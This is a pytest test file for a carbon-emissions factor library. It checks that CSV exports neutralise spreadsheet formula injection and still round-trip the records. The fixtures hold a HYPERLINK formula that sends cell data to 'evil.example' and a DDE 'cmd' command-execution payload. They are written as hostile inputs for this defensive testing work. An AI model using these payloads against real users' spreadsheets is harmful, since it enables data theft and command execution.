"""CSV exports cannot run formulas (OWASP "CSV Injection"), numbers stay numbers, and the
neutralised cells read back to the same records."""

from __future__ import annotations

import csv
import io

import pytest

from tanzuji.factors import exporters
from tanzuji.factors.base import load_factor_csv
from tanzuji.factors.database import export_factor_csv
from tanzuji.factors.importers import read
from tanzuji.factors.spreadsheet import FORMULA_TRIGGERS, neutralise, restore

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1)'
TEMPLATE = (
    "id,name_en,name_zh,unit,kg_co2e,co2_biogenic_kg,source_publisher,source_document,licence\n"
    f'wood-1,"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",@SUM(1+1),kg,-1.5,-1.5,'
    "+Publisher,-doc,CC0\n"
)


@pytest.fixture
def records(tmp_path):
    path = tmp_path / "hostile.csv"
    path.write_text(TEMPLATE, encoding="utf-8")
    return read(path).records


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _formula_cells(rows: list[dict[str, str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a trigger first and not a plain number."""
    return [
        value
        for row in rows
        for value in row.values()
        if value.startswith(FORMULA_TRIGGERS) and value != neutralise(value)
    ]


def test_template_export_neutralises_formulas_and_keeps_negative_numbers(records, tmp_path):
    path = exporters.export_csv(records, tmp_path / "out.csv")
    rows = _cells(path.read_text(encoding="utf-8"))
    assert _formula_cells(rows) == []
    assert rows[0]["name_en"] == "'" + HOSTILE_NAME
    assert (rows[0]["name_zh"], rows[0]["source_publisher"]) == ("'@SUM(1+1)", "'+Publisher")
    assert (rows[0]["kg_co2e"], rows[0]["co2_biogenic_kg"]) == ("-1.5", "-1.5")  # numbers
    back = read(path).records
    assert back == records  # the importer restores the neutralised cells


def test_factor_csv_export_neutralises_formulas_and_reads_back(records, tmp_path):
    text = export_factor_csv(records)
    rows = _cells(text)
    assert _formula_cells(rows) == []
    assert rows[0]["name_en"] == "'" + HOSTILE_NAME and rows[0]["amount_kg"] == "-1.5"
    path = tmp_path / "factors.csv"
    path.write_text(text, encoding="utf-8")
    factor = load_factor_csv(path).resolve("wood-1")
    assert factor.flows[0].amount_kg == -1.5


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 755 1234", "'+86 755 1234"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # already quoted by the user: one more quote, restored exactly
        ("-0.31", "-0.31"),
        ("+2.5e-3", "+2.5e-3"),
        ("steel", "steel"),
        ("'quoted'", "'quoted'"),
    ],
)
def test_cells(value, written):
    assert neutralise(value) == written
    assert restore(written) == value
